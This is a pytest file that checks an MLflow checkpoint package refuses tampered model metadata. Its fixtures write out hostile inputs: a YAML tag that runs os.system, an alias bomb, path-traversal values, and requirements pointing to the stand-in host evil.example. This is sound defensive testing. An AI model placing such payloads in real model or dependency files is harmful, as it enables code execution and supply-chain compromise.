"""`ckpt:` and `register` vouch for nothing that MLflow would load by other code than Keras."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import mlflow
import pytest
import yaml
from mlflow.artifacts import download_artifacts
from mlflow.exceptions import MlflowException

import mlflow_ckpt
from devtools.stores import Store
from mlflow_ckpt._format.manifest import Manifest, hash_files
from mlflow_ckpt._tracking.own_model import require_own
from mlflow_ckpt.errors import IntegrityError
from tests.support.checkpoints import save_run
from tests.support.cli import run

Change = Callable[[Path], None]


def with_model(change: Callable[[dict[str, Any]], object]) -> Change:
    """Change what the MLmodel says."""

    def apply(directory: Path) -> None:
        model = yaml.safe_load((directory / "MLmodel").read_text())
        change(model)
        (directory / "MLmodel").write_text(yaml.safe_dump(model))

    return apply


def with_file(path: str, text: str) -> Change:
    """Write a file."""

    def apply(directory: Path) -> None:
        (directory / path).parent.mkdir(parents=True, exist_ok=True)
        (directory / path).write_text(text)

    return apply


def python_function(**values: object) -> Change:
    return with_model(lambda model: model["flavors"]["python_function"].update(values))


LAUGHS = "flavors: &a [x]\nb: &b [*a, *a, *a]\nc: [*b, *b, *b]\n"
CHANGES: dict[str, Change] = {
    "a loader of its own": python_function(loader_module="evil"),
    "a loader of MLflow's that unpickles": python_function(loader_module="mlflow.sklearn"),
    "code of its own": python_function(code="code"),
    "configuration": python_function(config={"x": 1}),
    "other data": python_function(data="../.."),
    "another environment": python_function(env="evil.yaml"),
    "a flavor besides": with_model(lambda m: m["flavors"].update(sklearn={"pickled_model": "x"})),
    "another flavor": with_model(lambda m: m["flavors"].update(keras={"data": "x"})),
    "no flavor": with_model(lambda m: m.update(flavors={})),
    "a module for Keras": with_model(lambda m: m["flavors"]["keras"].update(keras_module="evil")),
    "data elsewhere": with_model(lambda m: m["flavors"]["keras"].update(data="../data")),
    "an example to read": with_model(
        lambda m: m.update(saved_input_example_info={"artifact_path": "../../x"})
    ),
    "aliases": with_file("MLmodel", LAUGHS),
    "no YAML": with_file("MLmodel", "{"),
    "depth": with_file("MLmodel", "[" * 100_000),
    "depth of maps": with_file("MLmodel", "{a: " * 50_000),
    "depth of blocks": with_file("MLmodel", "- " * 100_000),
    "depth of lines": with_file("MLmodel", "".join(f"{' ' * n}a:\n" for n in range(600))),
    "size": with_file("MLmodel", "a: b\n" * 500_000),
    "a number": with_file("MLmodel", "1"),
    "a tag of Python": with_file("MLmodel", "!!python/object/apply:os.system [touch x]"),
    "another module": with_file("data/keras_module.txt", "evil"),
    "pickled objects": with_file("data/custom_objects.cloudpickle", "x"),
    "pickled objects of all": with_file("data/global_custom_objects.cloudpickle", "x"),
    "a second MLmodel": with_file("data/MLmodel", "x"),
    "a second mlmodel": with_file("code/mlmodel", "x"),
    "another package": with_file("requirements.txt", "keras\nevil==1\n"),
    "a package from elsewhere": with_file("requirements.txt", "keras @ https://evil.example/x\n"),
    "an index": with_file("requirements.txt", "--index-url https://evil.example\nkeras\n"),
    "other requirements": with_file("python_env.yaml", "python: '3'\ndependencies: [evil]\n"),
    "another channel": with_file("conda.yaml", "channels: [evil]\ndependencies: [python]\n"),
}

# An MLmodel that cannot be read is refused before it is asked what it names.
REFUSED = "by Keras alone|not as MLflow writes it"


def sealed(directory: Path) -> None:
    """Write the manifest anew, so that verification finds all that was changed to be as saved."""
    file = directory / "manifest.json"
    paths = (path for path in directory.rglob("*") if path.is_file() and path != file)
    names = [path.relative_to(directory).as_posix() for path in paths]
    manifest = Manifest.from_json(file.read_bytes())
    file.write_text(replace(manifest, files=hash_files(directory, names)).to_json())


@pytest.mark.parametrize("what", CHANGES)
def test_what_names_code_of_its_own_is_refused(
    what: str, local_store: Store, tmp_path: Path, record_property: pytest.RecordProperty
) -> None:
    run_id = save_run()
    directory = local_store.checkpoint_directory(run_id, "epoch_0001")
    CHANGES[what](directory)
    sealed(directory)
    with pytest.raises(IntegrityError, match=REFUSED):
        mlflow_ckpt.register(run_id, name="vouched")
    for uri in (f"ckpt:/{run_id}/latest", f"ckpt:/{run_id}/latest/data"):
        with pytest.raises(MlflowException, match=REFUSED):
            download_artifacts(uri, dst_path=str(tmp_path))
    with pytest.raises(MlflowException, match=REFUSED):
        mlflow.pyfunc.load_model(f"ckpt:/{run_id}/latest")
    assert list(tmp_path.iterdir()) == []
    result = run("register", run_id, "--name", "vouched")
    assert result.exit_code == 4
    assert result.output.count("\n") == 1
    assert mlflow.MlflowClient().search_registered_models("name = 'vouched'") == []
    record_property("hostile", f"{what} | ckpt:, register | refused")


@pytest.mark.parametrize("full_format", ["keras", "h5"])
def test_what_this_package_wrote_is_served(
    full_format: str, local_store: Store, tmp_path: Path
) -> None:
    run_id = save_run(
        forms=("full", "split"), full_format=full_format, metadata={"class_names": ["[0, 1)"] * 50}
    )
    download_artifacts(f"ckpt:/{run_id}/latest", dst_path=str(tmp_path))
    assert mlflow_ckpt.register(run_id, name=f"own {full_format}").is_new


def test_a_checkpoint_of_an_earlier_version_is_served() -> None:
    directory = Path(__file__).parents[1] / "data" / "schema_v1" / "epoch_0002"
    files = [path for path in directory.rglob("*") if path.is_file()]
    sizes = {path.relative_to(directory).as_posix(): path.stat().st_size for path in files}
    require_own("it", sizes, lambda path: (directory / path).read_bytes())


def test_the_weights_alone_name_nothing(local_store: Store, tmp_path: Path) -> None:
    run_id = save_run(forms=("split",))
    download_artifacts(f"ckpt:/{run_id}/latest", dst_path=str(tmp_path))


def test_a_download_follows_no_link(local_store: Store, tmp_path: Path) -> None:
    run_id = save_run()
    shared, elsewhere = tmp_path / "shared", tmp_path / "elsewhere"
    for directory in (shared, elsewhere):
        directory.mkdir()
    (shared / "latest").symlink_to(elsewhere)
    with pytest.raises(MlflowException, match="is a link"):
        download_artifacts(f"ckpt:/{run_id}/latest", dst_path=str(shared))
    assert list(elsewhere.iterdir()) == []
